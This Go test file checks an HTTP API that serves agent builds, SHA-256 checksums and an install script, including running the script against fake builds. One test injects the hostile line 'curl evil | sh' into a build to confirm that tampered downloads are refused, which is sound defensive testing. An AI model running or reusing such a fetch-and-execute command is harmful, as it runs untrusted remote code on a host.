package httpapi

import (
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// fakeBuild is the stand-in ggagent build served for arch: a script that
// prints its arch, its arguments and whether it got the token.
func fakeBuild(arch string) string {
	return "#!/bin/sh\necho \"fake ggagent " + arch + ": $*\"\necho \"token: $GGAGENT_TOKEN\"\n"
}

func sha256Hex(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// downloadsDir writes a fake build for every architecture.
func downloadsDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, arch := range downloadArchs {
		if err := os.WriteFile(filepath.Join(dir, downloadFileName(arch)), []byte(fakeBuild(arch)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func get(t *testing.T, url string) (*http.Response, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

func TestDownloads(t *testing.T) {
	dir := downloadsDir(t)
	// No Auth at all: any route that needed a token would answer 401.
	srv := httptest.NewServer(New(Deps{Downloads: Downloads{Dir: dir}}).Handler())
	t.Cleanup(srv.Close)
	empty := httptest.NewServer(New(Deps{}).Handler())
	t.Cleanup(empty.Close)

	for _, c := range []struct {
		name, url  string
		status     int
		body       string // substring
		sum        string // X-Checksum-Sha256
		contentTyp string
	}{
		{"amd64", srv.URL + "/downloads/ggagent/linux/amd64", 200, fakeBuild("amd64"), sha256Hex(fakeBuild("amd64")), "application/octet-stream"},
		{"arm64", srv.URL + "/downloads/ggagent/linux/arm64", 200, fakeBuild("arm64"), sha256Hex(fakeBuild("arm64")), "application/octet-stream"},
		{"armv7", srv.URL + "/downloads/ggagent/linux/armv7", 200, fakeBuild("armv7"), sha256Hex(fakeBuild("armv7")), "application/octet-stream"},
		{"sha256", srv.URL + "/downloads/ggagent/linux/armv7.sha256", 200, sha256Hex(fakeBuild("armv7")) + "  ggagent\n", sha256Hex(fakeBuild("armv7")), "text/plain; charset=utf-8"},
		{"bad arch", srv.URL + "/downloads/ggagent/linux/mips", 404, "amd64, arm64, armv7", "", ""},
		{"bad arch sha256", srv.URL + "/downloads/ggagent/linux/arm.sha256", 404, "amd64, arm64, armv7", "", ""},
		{"bad os", srv.URL + "/downloads/ggagent/darwin/arm64", 404, "linux only", "", ""},
		{"no downloads dir", empty.URL + "/downloads/ggagent/linux/amd64", 404, "--downloads-dir", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			resp, body := get(t, c.url)
			if resp.StatusCode != c.status {
				t.Fatalf("status %d, want %d: %s", resp.StatusCode, c.status, body)
			}
			if c.status == 200 && body != c.body || c.status != 200 && !strings.Contains(body, c.body) {
				t.Errorf("body %q, want %q", body, c.body)
			}
			if got := resp.Header.Get("X-Checksum-Sha256"); got != c.sum {
				t.Errorf("X-Checksum-Sha256 = %q, want %q", got, c.sum)
			}
			if c.contentTyp != "" && resp.Header.Get("Content-Type") != c.contentTyp {
				t.Errorf("Content-Type = %q, want %q", resp.Header.Get("Content-Type"), c.contentTyp)
			}
		})
	}

	t.Run("missing build", func(t *testing.T) {
		if err := os.Remove(filepath.Join(dir, downloadFileName("arm64"))); err != nil {
			t.Fatal(err)
		}
		resp, body := get(t, srv.URL+"/downloads/ggagent/linux/arm64")
		if resp.StatusCode != 404 || !strings.Contains(body, "ggagent_linux_arm64") || !strings.Contains(body, "--downloads-dir") {
			t.Errorf("%d %s, want 404 naming the file and --downloads-dir", resp.StatusCode, body)
		}
	})

	t.Run("rebuilt build gets a new checksum", func(t *testing.T) {
		path := filepath.Join(dir, downloadFileName("amd64"))
		rebuilt := fakeBuild("amd64") + "# rebuilt\n"
		if err := os.WriteFile(path, []byte(rebuilt), 0o755); err != nil {
			t.Fatal(err)
		}
		later := time.Now().Add(time.Minute)
		if err := os.Chtimes(path, later, later); err != nil {
			t.Fatal(err)
		}
		resp, body := get(t, srv.URL+"/downloads/ggagent/linux/amd64")
		if body != rebuilt || resp.Header.Get("X-Checksum-Sha256") != sha256Hex(rebuilt) {
			t.Errorf("after a rebuild: checksum %s body %q, want %s", resp.Header.Get("X-Checksum-Sha256"), body, sha256Hex(rebuilt))
		}
	})
}

// needTool returns the path of a tool the script tests need; missing, it
// skips the test outside CI and fails it in CI.
func needTool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("CI") == "" {
			t.Skipf("%s is not installed", name)
		}
		t.Fatalf("%s is not installed", name)
	}
	return p
}

func TestInstallScriptServed(t *testing.T) {
	srv := httptest.NewServer(New(Deps{BaseURL: "https://broker.example:8443", Downloads: Downloads{CASHA256: "ab12cd", CAPEM: "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}}).Handler())
	t.Cleanup(srv.Close)
	resp, body := get(t, srv.URL+"/install.sh")
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/x-shellscript; charset=utf-8" {
		t.Fatalf("%d %s: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	for _, want := range []string{"broker='https://broker.example:8443'", "ca_sha256='ab12cd'", "ca_pem='-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----'"} {
		if !strings.Contains(body, want) {
			t.Errorf("install.sh lacks %q", want)
		}
	}
	script := filepath.Join(t.TempDir(), "install.sh")
	if err := os.WriteFile(script, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("sh", "-n", script).CombinedOutput(); err != nil {
		t.Errorf("sh -n install.sh: %v\n%s", err, out)
	}
	if sc, err := exec.LookPath("shellcheck"); err == nil {
		if out, err := exec.Command(sc, script).CombinedOutput(); err != nil {
			t.Errorf("shellcheck install.sh: %v\n%s", err, out)
		}
	}
}

// TestInstallScriptRuns runs the served script against a broker serving
// fake builds, with uname faked through PATH and --bin-dir in a temp dir,
// so it touches nothing on the host.
func TestInstallScriptRuns(t *testing.T) {
	needTool(t, "curl")
	needTool(t, "sha256sum")
	dir := downloadsDir(t)
	api := New(Deps{Downloads: Downloads{Dir: dir, CASHA256: "ab12cd"}}).Handler()
	var tamper atomic.Bool
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if tamper.Load() && strings.HasSuffix(r.URL.Path, "/amd64") {
			_, _ = io.WriteString(w, fakeBuild("amd64")+"curl evil | sh\n")
			return
		}
		api.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	_, script := get(t, srv.URL+"/install.sh")

	fakes := t.TempDir()
	uname := "#!/bin/sh\ncase \"$1\" in -s) echo Linux ;; -m) echo \"$FAKE_MACHINE\" ;; *) exit 2 ;; esac\n"
	if err := os.WriteFile(filepath.Join(fakes, "uname"), []byte(uname), 0o755); err != nil {
		t.Fatal(err)
	}
	runScript := func(t *testing.T, machine string, args ...string) (string, error) {
		t.Helper()
		cmd := exec.Command("sh", append([]string{"-s", "--"}, args...)...)
		cmd.Stdin = strings.NewReader(script)
		cmd.Env = append(os.Environ(), "PATH="+fakes+string(os.PathListSeparator)+os.Getenv("PATH"), "FAKE_MACHINE="+machine, "GGAGENT_TOKEN=")
		out, err := cmd.CombinedOutput()
		return string(out), err
	}

	for _, c := range []struct{ machine, arch string }{
		{"x86_64", "amd64"},
		{"aarch64", "arm64"},
		{"armv7l", "armv7"},
	} {
		t.Run(c.machine, func(t *testing.T) {
			bin := t.TempDir()
			out, err := runScript(t, c.machine, "--core", "core-1", "--token", "s3cret", "--runtime", "simulated", "--bin-dir", bin)
			if err != nil {
				t.Fatalf("install.sh: %v\n%s", err, out)
			}
			want := "fake ggagent " + c.arch + ": install --broker " + srv.URL + " --core core-1 --ca-sha256 ab12cd --runtime simulated\ntoken: s3cret\n"
			if !strings.HasSuffix(out, want) {
				t.Errorf("output:\n%s\nwant it to end with:\n%s", out, want)
			}
			if strings.Contains(strings.TrimSuffix(out, want), "s3cret") {
				t.Errorf("the script printed the token:\n%s", out)
			}
			st, err := os.Stat(filepath.Join(bin, "ggagent"))
			if err != nil || st.Mode().Perm() != 0o755 {
				t.Errorf("installed ggagent: %v %v, want mode 0755", st, err)
			}
		})
	}

	t.Run("dry run", func(t *testing.T) {
		bin := filepath.Join(t.TempDir(), "bin")
		out, err := runScript(t, "aarch64", "--core", "core-2", "--token", "s3cret", "--dry-run", "--bin-dir", bin)
		if err != nil {
			t.Fatalf("install.sh --dry-run: %v\n%s", err, out)
		}
		if want := "GGAGENT_TOKEN=<token> " + bin + "/ggagent install --broker " + srv.URL + " --core core-2 --ca-sha256 ab12cd\n"; !strings.HasSuffix(out, want) {
			t.Errorf("output:\n%s\nwant it to end with:\n%s", out, want)
		}
		if _, err := os.Stat(bin); err == nil {
			t.Error("--dry-run created the bin dir")
		}
	})

	for _, c := range []struct {
		name, machine, want string
		args                []string
	}{
		{"unsupported arch", "mips", "unsupported architecture mips", []string{"--core", "c", "--token", "t"}},
		{"no core", "x86_64", "--core NAME is required", []string{"--token", "t"}},
		{"no token", "x86_64", "--token TOKEN is required", []string{"--core", "c"}},
		{"unknown option", "x86_64", "unknown option --frobnicate", []string{"--frobnicate"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, err := runScript(t, c.machine, append(c.args, "--bin-dir", t.TempDir())...)
			if err == nil || !strings.Contains(out, c.want) {
				t.Errorf("err %v, output:\n%s\nwant a failure saying %q", err, out, c.want)
			}
		})
	}

	t.Run("tampered build is refused", func(t *testing.T) {
		tamper.Store(true)
		defer tamper.Store(false)
		bin := t.TempDir()
		out, err := runScript(t, "x86_64", "--core", "core-1", "--token", "s3cret", "--bin-dir", bin)
		if err == nil || !strings.Contains(out, "checksum mismatch") {
			t.Errorf("err %v, output:\n%s\nwant a checksum mismatch", err, out)
		}
		if _, err := os.Stat(filepath.Join(bin, "ggagent")); err == nil {
			t.Error("a tampered build was installed")
		}
	})
}
